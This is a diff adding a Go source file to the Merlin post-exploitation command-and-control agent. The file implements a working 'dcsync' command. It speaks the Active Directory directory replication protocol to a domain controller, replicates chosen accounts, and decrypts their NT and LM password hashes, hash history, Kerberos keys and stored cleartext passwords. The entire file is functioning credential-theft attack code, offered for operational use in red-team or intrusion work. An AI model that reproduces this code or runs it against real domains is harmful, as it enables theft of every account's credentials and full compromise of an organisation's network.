@@ -0,0 +1,743 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/des" // #nosec G502 -- replicated password hashes are encrypted with DES
+	"crypto/md5" // #nosec G501 -- replicated secrets are encrypted with an MD5 derived key
+	"crypto/rc4" // #nosec G503 -- replicated secrets are encrypted with RC4
+	"encoding/asn1"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"hash/crc32"
+	"net"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// rpcDRSUAPI is the directory replication service interface
+// https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-drsr/58f33216-d9f1-43bf-a183-87e3c899c410
+var rpcDRSUAPI = rpcSyntax{"e3514235-4b06-11d1-ab04-00c04fc2dcd2", 4}
+
+// ntdsapiClientGUID identifies the client as a DRSUAPI client rather than another domain controller
+const ntdsapiClientGUID = "e24d201a-4fd6-11d1-a3da-0000f875ae0d"
+
+// DRSUAPI operations, name formats, and replication values
+const (
+	drsBind                 = 0
+	drsGetNCChanges         = 3
+	drsCrackNames           = 12
+	drsDomainControllerInfo = 16
+	dsFQDN1779Name          = 1
+	dsNT4AccountName        = 2
+	dsUniqueIDName          = 6
+	dsCanonicalName         = 7
+	dsUserPrincipalName     = 8
+	// drsExtensionFlags are DRS_EXT_BASE, DRS_EXT_STRONG_ENCRYPTION, DRS_EXT_GETCHGREQ_V6, DRS_EXT_GETCHGREQ_V8, and
+	// DRS_EXT_GETCHGREPLY_V6
+	drsExtensionFlags = 0x05408001
+	// drsReplicaFlags are DRS_INIT_SYNC and DRS_WRIT_REP
+	drsReplicaFlags = 0x30
+	// exopReplObj replicates a single object
+	exopReplObj = 6
+	// exopSuccess is the extended operation result for success
+	exopSuccess = 1
+	// errorDSDRAAccessDenied is returned when the account does not have the replication rights
+	errorDSDRAAccessDenied = 8453
+)
+
+// Attributes read from a replicated account
+const (
+	oidUserAccountControl      = "1.2.840.113556.1.4.8"
+	oidDBCSPwd                 = "1.2.840.113556.1.4.55"
+	oidUnicodePwd              = "1.2.840.113556.1.4.90"
+	oidNtPwdHistory            = "1.2.840.113556.1.4.94"
+	oidSupplementalCredentials = "1.2.840.113556.1.4.125"
+	oidObjectSid               = "1.2.840.113556.1.4.146"
+	oidLmPwdHistory            = "1.2.840.113556.1.4.160"
+	oidSAMAccountName          = "1.2.840.113556.1.4.221"
+)
+
+// crackStatuses are the DS_NAME_ERROR values returned when a name can not be translated
+var crackStatuses = map[uint32]string{
+	1: "there was an error resolving the name",
+	2: "the name was not found",
+	3: "the name is not unique",
+	4: "the name can not be mapped",
+	5: "only the domain was found",
+	6: "the name is not in a supported format",
+	7: "the name is in a trusted domain",
+}
+
+// kerberosKeyTypes are the names of the key types stored in the supplemental credentials
+var kerberosKeyTypes = map[uint32]string{
+	1:           "des-cbc-crc",
+	3:           "des-cbc-md5",
+	etypeAES128: "aes128-cts-hmac-sha1-96",
+	etypeAES256: "aes256-cts-hmac-sha1-96",
+	etypeRC4:    "rc4-hmac",
+}
+
+// drsConn is a DRSUAPI binding on an authenticated RPC connection
+type drsConn struct {
+	*rpcConn
+	handle []byte
+}
+
+// drsObject is a replicated object's attribute values keyed by attribute OID
+type drsObject map[string][][]byte
+
+// DCSync replicates the credentials of accounts from a domain controller with the directory replication service, the
+// same way domain controllers replicate with each other, and returns their password hashes, password history, and
+// Kerberos keys. The account must have the Replicating Directory Changes and Replicating Directory Changes All rights
+// on the domain, which Domain Admins, Enterprise Admins, and domain controllers have by default. Targets are account
+// names, DOMAIN\user, user principal names, or distinguished names, comma separated or one per line from a file on
+// the agent's host. The domain controller's DRSUAPI port is found with the endpoint mapper unless it is provided
+// dcsync <dc[:port]> <domain> <user> <password> <target[,target...]|@file>
+func DCSync(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering DCSync() with %+v", cmd))
+	}
+	if len(cmd.Args) < 5 {
+		results.Stderr = fmt.Sprintf("expected 5 arguments for the dcsync command, received %d", len(cmd.Args))
+		return
+	}
+	targets, err := sprayList(cmd.Args[4])
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	if len(targets) == 0 {
+		results.Stderr = "no accounts were provided to replicate"
+		return
+	}
+	records, err := dcsync(cmd.Args[0], cmd.Args[1], cmd.Args[2], cmd.Args[3], targets)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	var sb strings.Builder
+	for _, record := range records {
+		if record.Error != "" {
+			results.Stderr += fmt.Sprintf("%s: %s\n", record.User, record.Error)
+			continue
+		}
+		sb.WriteString(record.String())
+	}
+	results.Stdout = sb.String()
+	structured = newStructured("dcsync", records)
+	return
+}
+
+// dcsync binds to the domain controller's directory replication service and replicates each target account
+func dcsync(dc, domain, user, password string, targets []string) (records []DCSyncRecord, err error) {
+	addr, err := rpcAddress(dc, rpcDRSUAPI, adReconTimeout)
+	if err != nil {
+		return
+	}
+	conn, err := dialRPC(addr, rpcDRSUAPI, domain, user, password, adReconTimeout)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error connecting to the directory replication service at %s: %s", addr, err)
+	}
+	defer conn.Close()
+	drs := &drsConn{rpcConn: conn}
+	if err = drs.bind(); err != nil {
+		return
+	}
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		return
+	}
+	dsa, err := drs.dsaGUID(domain, host)
+	if err != nil {
+		return
+	}
+
+	var netbios string
+	for _, target := range targets {
+		record := DCSyncRecord{User: target}
+		name, format := target, uint32(dsNT4AccountName)
+		switch {
+		case strings.Contains(target, "\\"):
+		case strings.Contains(target, "="):
+			format = dsFQDN1779Name
+		case strings.Contains(target, "@"):
+			format = dsUserPrincipalName
+		default:
+			// Bare account names are qualified with the domain's NetBIOS name, e.g. CORP\
+			if netbios == "" {
+				if netbios, err = drs.crackName(dsCanonicalName, dsNT4AccountName, domain+"/"); err != nil {
+					return records, fmt.Errorf("there was an error getting the NetBIOS name of %s: %s", domain, err)
+				}
+			}
+			name = netbios + target
+		}
+		guid, err := drs.crackName(format, dsUniqueIDName, name)
+		if err != nil {
+			record.Error = err.Error()
+			records = append(records, record)
+			continue
+		}
+		object, err := drs.replicate(dsa, rpcUUID(guid))
+		if err != nil {
+			record.Error = err.Error()
+			records = append(records, record)
+			continue
+		}
+		records = append(records, credentials(object, conn.seal.SessionKey, target))
+	}
+	return records, nil
+}
+
+// bind calls IDL_DRSBind to get a DRS handle, binding again with the server's replication epoch when it has one
+func (d *drsConn) bind() error {
+	var epoch uint32
+	for i := 0; i < 2; i++ {
+		extensions := make([]byte, 56)
+		binary.LittleEndian.PutUint32(extensions, 52)
+		binary.LittleEndian.PutUint32(extensions[4:], drsExtensionFlags)
+		binary.LittleEndian.PutUint32(extensions[28:], epoch)
+		binary.LittleEndian.PutUint32(extensions[52:], 0xffffffff)
+		var w ndrWriter
+		w.uint32(0x20000)
+		w.Write(rpcUUID(ntdsapiClientGUID))
+		w.uint32(0x20004)
+		w.uint32(uint32(len(extensions)))
+		w.uint32(uint32(len(extensions)))
+		w.Write(extensions)
+		stub, err := d.call(drsBind, w.Bytes())
+		if err != nil {
+			return fmt.Errorf("there was an error binding to the directory replication service: %s", err)
+		}
+		r := ndrReader{b: stub}
+		var server []byte
+		if r.uint32() != 0 {
+			r.uint32()
+			server = r.bytes(int(r.uint32()))
+		}
+		d.handle = r.bytes(20)
+		if ret := r.uint32(); r.err != nil || ret != 0 {
+			return fmt.Errorf("the directory replication service bind failed with %d %v", ret, r.err)
+		}
+		if len(server) < 32 || binary.LittleEndian.Uint32(server[28:]) == epoch {
+			return nil
+		}
+		epoch = binary.LittleEndian.Uint32(server[28:])
+	}
+	return nil
+}
+
+// dsaGUID returns the domain controller's NTDS settings object GUID, the replication destination for the requests,
+// with IDL_DRSDomainControllerInfo
+func (d *drsConn) dsaGUID(domain, host string) ([]byte, error) {
+	var w ndrWriter
+	w.Write(d.handle)
+	w.uint32(1)
+	w.uint32(1)
+	w.uint32(0x20000)
+	w.uint32(2)
+	w.string(domain)
+	stub, err := d.call(drsDomainControllerInfo, w.Bytes())
+	if err != nil {
+		return nil, fmt.Errorf("there was an error getting the domain controller information: %s", err)
+	}
+
+	r := ndrReader{b: stub}
+	r.uint32()
+	r.uint32()
+	r.uint32()
+	if r.uint32() == 0 {
+		return nil, fmt.Errorf("the domain controller did not return any domain controllers for %s", domain)
+	}
+	count := r.count(104)
+	if count == 0 {
+		return nil, fmt.Errorf("the domain controller did not return any domain controllers for %s: %v", domain, r.err)
+	}
+	type dcInfo struct {
+		pointers [7]uint32
+		names    [7]string
+		guid     []byte
+	}
+	dcs := make([]dcInfo, count)
+	for i := range dcs {
+		for j := range dcs[i].pointers {
+			dcs[i].pointers[j] = r.uint32()
+		}
+		r.bytes(12 + 48)
+		dcs[i].guid = r.bytes(16)
+	}
+	for i := range dcs {
+		for j, p := range dcs[i].pointers {
+			if p != 0 {
+				dcs[i].names[j] = r.string()
+			}
+		}
+	}
+	if r.err != nil {
+		return nil, fmt.Errorf("there was an error parsing the domain controller information: %s", r.err)
+	}
+	// Prefer the domain controller that was connected to by its NetBIOS or DNS host name
+	for _, dc := range dcs {
+		if strings.EqualFold(dc.names[0], host) || strings.EqualFold(dc.names[1], host) || strings.HasPrefix(strings.ToLower(dc.names[1]), strings.ToLower(host)+".") {
+			return dc.guid, nil
+		}
+	}
+	return dcs[0].guid, nil
+}
+
+// crackName translates a name between formats with IDL_DRSCrackNames
+func (d *drsConn) crackName(offered, desired uint32, name string) (string, error) {
+	var w ndrWriter
+	w.Write(d.handle)
+	w.uint32(1)
+	w.uint32(1)
+	for _, v := range []uint32{0, 0, 0, offered, desired, 1, 0x20000, 1, 0x20004} {
+		w.uint32(v)
+	}
+	w.string(name)
+	stub, err := d.call(drsCrackNames, w.Bytes())
+	if err != nil {
+		return "", fmt.Errorf("there was an error resolving %s: %s", name, err)
+	}
+
+	r := ndrReader{b: stub}
+	r.uint32()
+	r.uint32()
+	if r.uint32() == 0 {
+		return "", fmt.Errorf("the domain controller did not resolve %s", name)
+	}
+	r.uint32()
+	if r.uint32() == 0 {
+		return "", fmt.Errorf("the domain controller did not resolve %s", name)
+	}
+	count := r.count(12)
+	if count == 0 {
+		return "", fmt.Errorf("the domain controller did not resolve %s", name)
+	}
+	status, domainPtr, namePtr := r.uint32(), r.uint32(), r.uint32()
+	r.bytes(12 * (count - 1))
+	if domainPtr != 0 {
+		r.string()
+	}
+	var result string
+	if namePtr != 0 {
+		result = r.string()
+	}
+	if r.err != nil {
+		return "", fmt.Errorf("there was an error parsing the resolved name for %s: %s", name, r.err)
+	}
+	if status != 0 {
+		if reason, ok := crackStatuses[status]; ok {
+			return "", fmt.Errorf("%s: %s", name, reason)
+		}
+		return "", fmt.Errorf("%s could not be resolved: %d", name, status)
+	}
+	return result, nil
+}
+
+// replicate replicates a single object by its GUID with IDL_DRSGetNCChanges and the EXOP_REPL_OBJ extended operation
+func (d *drsConn) replicate(dsa, guid []byte) (drsObject, error) {
+	var w ndrWriter
+	w.Write(d.handle)
+	w.uint32(8)
+	w.uint32(8)
+	w.align(8)
+	w.Write(dsa)
+	w.Write(dsa)
+	w.uint32(0x20000)
+	w.align(8)
+	w.Write(make([]byte, 24))
+	for _, v := range []uint32{0, drsReplicaFlags, 1, 0, exopReplObj} {
+		w.uint32(v)
+	}
+	w.align(8)
+	w.Write(make([]byte, 8))
+	for _, v := range []uint32{0, 0, 0, 0} {
+		w.uint32(v)
+	}
+	// The DSNAME of the object with only its GUID
+	w.uint32(1)
+	w.uint32(58)
+	w.uint32(0)
+	w.Write(guid)
+	w.Write(make([]byte, 28))
+	w.uint32(0)
+	w.Write([]byte{0, 0})
+	stub, err := d.call(drsGetNCChanges, w.Bytes())
+	if err != nil {
+		return nil, fmt.Errorf("there was an error replicating the object: %s", err)
+	}
+	return parseGetNCChanges(stub)
+}
+
+// parseGetNCChanges returns the first object in a DRS_MSG_GETCHGREPLY_V6 reply
+func parseGetNCChanges(stub []byte) (drsObject, error) {
+	r := ndrReader{b: stub}
+	version := r.uint32()
+	if len(stub) >= 8 && binary.LittleEndian.Uint32(stub[4:]) != version {
+		// The union discriminant is aligned to the reply's eight byte alignment
+		r.align(8)
+	}
+	r.uint32()
+	if version != 6 {
+		return nil, fmt.Errorf("the domain controller returned an unsupported reply version %d", version)
+	}
+	r.align(8)
+	r.bytes(32)
+	ncPtr := r.uint32()
+	r.align(8)
+	r.bytes(48)
+	upToDatePtr := r.uint32()
+	r.uint32()
+	prefixPtr := r.uint32()
+	extendedRet := r.uint32()
+	r.uint32()
+	r.uint32()
+	objectsPtr := r.uint32()
+	r.bytes(20)
+	drsError := r.uint32()
+	if r.err != nil {
+		return nil, fmt.Errorf("there was an error parsing the replication reply: %s", r.err)
+	}
+	if drsError == errorDSDRAAccessDenied {
+		return nil, fmt.Errorf("the account does not have the replication rights on the domain")
+	}
+	if drsError != 0 {
+		return nil, fmt.Errorf("the domain controller returned replication error %d", drsError)
+	}
+	if extendedRet != exopSuccess {
+		return nil, fmt.Errorf("the domain controller returned extended operation result %d", extendedRet)
+	}
+
+	if ncPtr != 0 {
+		r.dsname()
+	}
+	if upToDatePtr != 0 {
+		r.uint32()
+		r.align(8)
+		r.bytes(8)
+		cursors := r.count(32)
+		r.uint32()
+		r.align(8)
+		r.bytes(32 * cursors)
+	}
+	// The prefix table maps the high word of an attribute ID to the BER encoded prefix of its OID
+	prefixes := make(map[uint32][]byte)
+	if prefixPtr != 0 {
+		count := r.count(12)
+		type entry struct{ index, pointer uint32 }
+		entries := make([]entry, count)
+		for i := range entries {
+			entries[i].index = r.uint32()
+			r.uint32()
+			entries[i].pointer = r.uint32()
+		}
+		for _, e := range entries {
+			if e.pointer != 0 && r.err == nil {
+				prefixes[e.index] = r.bytes(int(r.uint32()))
+			}
+		}
+	}
+	if objectsPtr == 0 {
+		return nil, fmt.Errorf("the domain controller did not return the object")
+	}
+	object := r.entry(prefixes)
+	if r.err != nil {
+		return nil, fmt.Errorf("there was an error parsing the replicated object: %s", r.err)
+	}
+	return object, nil
+}
+
+// dsname reads a DSNAME and returns its GUID and distinguished name
+func (r *ndrReader) dsname() (guid []byte, name string) {
+	size := int(r.uint32())
+	r.uint32()
+	r.uint32()
+	guid = r.bytes(16)
+	r.bytes(28)
+	r.uint32()
+	name = strings.TrimRight(ntlmString(r.bytes(2*size), true), "\x00")
+	r.align(4)
+	return
+}
+
+// entry reads a REPLENTINFLIST and returns the first object's attributes, the following objects are read and ignored
+func (r *ndrReader) entry(prefixes map[uint32][]byte) drsObject {
+	next := r.uint32()
+	name := r.uint32()
+	r.uint32()
+	r.uint32()
+	attributes := r.uint32()
+	r.uint32()
+	parent := r.uint32()
+	metadata := r.uint32()
+	if next != 0 {
+		r.entry(prefixes)
+	}
+	if name != 0 {
+		r.dsname()
+	}
+	object := make(drsObject)
+	if attributes != 0 {
+		count := r.count(12)
+		type attr struct {
+			id, pointer uint32
+		}
+		attrs := make([]attr, count)
+		for i := range attrs {
+			attrs[i].id = r.uint32()
+			r.uint32()
+			attrs[i].pointer = r.uint32()
+		}
+		for _, a := range attrs {
+			if a.pointer == 0 || r.err != nil {
+				continue
+			}
+			values := make([]uint32, r.count(8))
+			for i := range values {
+				r.uint32()
+				values[i] = r.uint32()
+			}
+			oid := attributeOID(prefixes, a.id)
+			for _, p := range values {
+				if p != 0 {
+					object[oid] = append(object[oid], r.bytes(int(r.uint32())))
+				}
+			}
+		}
+	}
+	if parent != 0 {
+		r.bytes(16)
+	}
+	if metadata != 0 {
+		r.uint32()
+		r.align(8)
+		props := r.count(40)
+		r.align(8)
+		r.bytes(40 * props)
+	}
+	return object
+}
+
+// attributeOID maps an attribute ID to its OID with the reply's prefix table
+// https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-drsr/6f53317f-2263-48ee-86c1-4580bf97232c
+func attributeOID(prefixes map[uint32][]byte, id uint32) string {
+	prefix, ok := prefixes[id>>16]
+	if !ok {
+		return fmt.Sprintf("0x%08x", id)
+	}
+	low := id & 0xffff
+	ber := append([]byte{}, prefix...)
+	if low < 128 {
+		ber = append(ber, byte(low))
+	} else {
+		if low >= 32768 {
+			low -= 32768
+		}
+		ber = append(ber, byte((low/128)%128+128), byte(low%128))
+	}
+	var oid asn1.ObjectIdentifier
+	if _, err := asn1.Unmarshal(append([]byte{0x06, byte(len(ber))}, ber...), &oid); err != nil {
+		return fmt.Sprintf("0x%08x", id)
+	}
+	return oid.String()
+}
+
+// credentials decrypts the replicated secrets of an account with the RPC session key
+func credentials(object drsObject, sessionKey []byte, target string) (record DCSyncRecord) {
+	record.User = target
+	first := func(oid string) []byte {
+		if values := object[oid]; len(values) > 0 {
+			return values[0]
+		}
+		return nil
+	}
+	if name := first(oidSAMAccountName); name != nil {
+		record.User = ntlmString(name, true)
+	}
+	if sid := first(oidObjectSid); sid != nil {
+		if s, n, err := sidString(sid); err == nil && n >= 12 {
+			record.SID = s
+			record.RID = binary.LittleEndian.Uint32(sid[n-4:])
+		}
+	}
+	if uac := first(oidUserAccountControl); len(uac) >= 4 {
+		// ADS_UF_ACCOUNTDISABLE
+		record.Disabled = binary.LittleEndian.Uint32(uac)&0x2 != 0
+	}
+
+	secret := func(oid string) (hashes []string, err error) {
+		value := first(oid)
+		if value == nil {
+			return nil, nil
+		}
+		plain, err := decryptReplicated(sessionKey, value)
+		if err != nil {
+			return nil, err
+		}
+		for i := 0; i+16 <= len(plain); i += 16 {
+			hash, err := removeDESLayer(plain[i:i+16], record.RID)
+			if err != nil {
+				return nil, err
+			}
+			hashes = append(hashes, hex.EncodeToString(hash))
+		}
+		return
+	}
+	var errs []string
+	nt, err := secret(oidUnicodePwd)
+	if err != nil {
+		errs = append(errs, fmt.Sprintf("there was an error decrypting the NT hash: %s", err))
+	}
+	lm, err := secret(oidDBCSPwd)
+	if err != nil {
+		errs = append(errs, fmt.Sprintf("there was an error decrypting the LM hash: %s", err))
+	}
+	record.NT, record.LM = "31d6cfe0d16ae931b73c59d7e0c089c0", "aad3b435b51404eeaad3b435b51404ee"
+	if len(nt) > 0 {
+		record.NT = nt[0]
+	}
+	if len(lm) > 0 {
+		record.LM = lm[0]
+	}
+	if record.NTHistory, err = secret(oidNtPwdHistory); err != nil {
+		errs = append(errs, fmt.Sprintf("there was an error decrypting the NT hash history: %s", err))
+	}
+	if record.LMHistory, err = secret(oidLmPwdHistory); err != nil {
+		errs = append(errs, fmt.Sprintf("there was an error decrypting the LM hash history: %s", err))
+	}
+	if value := first(oidSupplementalCredentials); value != nil {
+		plain, err := decryptReplicated(sessionKey, value)
+		if err == nil {
+			record.Keys, record.Cleartext = supplementalCredentials(plain)
+		} else {
+			errs = append(errs, fmt.Sprintf("there was an error decrypting the supplemental credentials: %s", err))
+		}
+	}
+	record.Error = strings.Join(errs, ", ")
+	return
+}
+
+// decryptReplicated decrypts an ENCRYPTED_PAYLOAD with the RC4 key derived from the session key and its salt and
+// verifies its CRC32 checksum
+// https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-drsr/4e7c4d1b-4f0c-4d2d-8ef0-3f5a8a1ebb2d
+func decryptReplicated(sessionKey, payload []byte) ([]byte, error) {
+	if len(payload) < 20 {
+		return nil, fmt.Errorf("the encrypted payload is only %d bytes", len(payload))
+	}
+	key := md5.Sum(append(append([]byte{}, sessionKey...), payload[:16]...)) // #nosec G401 -- replicated secrets are encrypted with an MD5 derived key
+	cipher, err := rc4.NewCipher(key[:])
+	if err != nil {
+		return nil, err
+	}
+	plain := make([]byte, len(payload)-16)
+	cipher.XORKeyStream(plain, payload[16:])
+	if crc32.ChecksumIEEE(plain[4:]) != binary.LittleEndian.Uint32(plain) {
+		return nil, fmt.Errorf("the checksum does not match, the session key is wrong")
+	}
+	return plain[4:], nil
+}
+
+// removeDESLayer decrypts a password hash with the two DES keys derived from the account's RID
+func removeDESLayer(hash []byte, rid uint32) ([]byte, error) {
+	k := binary.LittleEndian.AppendUint32(nil, rid)
+	plain := make([]byte, 16)
+	for i, seed := range [][]byte{{k[0], k[1], k[2], k[3], k[0], k[1], k[2]}, {k[3], k[0], k[1], k[2], k[3], k[0], k[1]}} {
+		block, err := des.NewCipher(desKey(seed))
+		if err != nil {
+			return nil, err
+		}
+		block.Decrypt(plain[i*8:], hash[i*8:i*8+8])
+	}
+	return plain, nil
+}
+
+// desKey expands a 7 byte key into an 8 byte DES key with room for the parity bits
+func desKey(s []byte) []byte {
+	return []byte{
+		s[0] & 0xfe,
+		(s[0]<<7 | s[1]>>1) & 0xfe,
+		(s[1]<<6 | s[2]>>2) & 0xfe,
+		(s[2]<<5 | s[3]>>3) & 0xfe,
+		(s[3]<<4 | s[4]>>4) & 0xfe,
+		(s[4]<<3 | s[5]>>5) & 0xfe,
+		(s[5]<<2 | s[6]>>6) & 0xfe,
+		s[6] << 1,
+	}
+}
+
+// supplementalCredentials returns the Kerberos keys and the reversibly encrypted cleartext password, if stored, from
+// the USER_PROPERTIES structure
+// https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-samr/0705f888-62e1-4a4c-bac0-b4d427f396f8
+func supplementalCredentials(b []byte) (keys []string, cleartext string) {
+	if len(b) < 112 || binary.LittleEndian.Uint16(b[108:]) != 0x50 {
+		return
+	}
+	count := int(binary.LittleEndian.Uint16(b[110:]))
+	offset := 112
+	for i := 0; i < count && offset+6 <= len(b); i++ {
+		nameLength := int(binary.LittleEndian.Uint16(b[offset:]))
+		valueLength := int(binary.LittleEndian.Uint16(b[offset+2:]))
+		offset += 6
+		if offset+nameLength+valueLength > len(b) {
+			return
+		}
+		name := ntlmString(b[offset:offset+nameLength], true)
+		value, err := hex.DecodeString(string(b[offset+nameLength : offset+nameLength+valueLength]))
+		offset += nameLength + valueLength
+		if err != nil {
+			continue
+		}
+		switch name {
+		case "Primary:CLEARTEXT":
+			cleartext = ntlmString(value, true)
+		case "Primary:Kerberos-Newer-Keys":
+			keys = append(keys, kerberosKeys(value)...)
+		}
+	}
+	return
+}
+
+// kerberosKeys returns the current Kerberos keys from a KERB_STORED_CREDENTIAL_NEW structure
+func kerberosKeys(b []byte) (keys []string) {
+	if len(b) < 24 || binary.LittleEndian.Uint16(b) != 4 {
+		return
+	}
+	count := int(binary.LittleEndian.Uint16(b[4:]))
+	for i := 0; i < count && 24+i*24+24 <= len(b); i++ {
+		entry := b[24+i*24:]
+		keyType := binary.LittleEndian.Uint32(entry[12:])
+		length, offset := int(binary.LittleEndian.Uint32(entry[16:])), int(binary.LittleEndian.Uint32(entry[20:]))
+		if offset+length > len(b) {
+			continue
+		}
+		name, ok := kerberosKeyTypes[keyType]
+		if !ok {
+			name = fmt.Sprintf("%d", keyType)
+		}
+		keys = append(keys, fmt.Sprintf("%s:%s", name, hex.EncodeToString(b[offset:offset+length])))
+	}
+	return
+}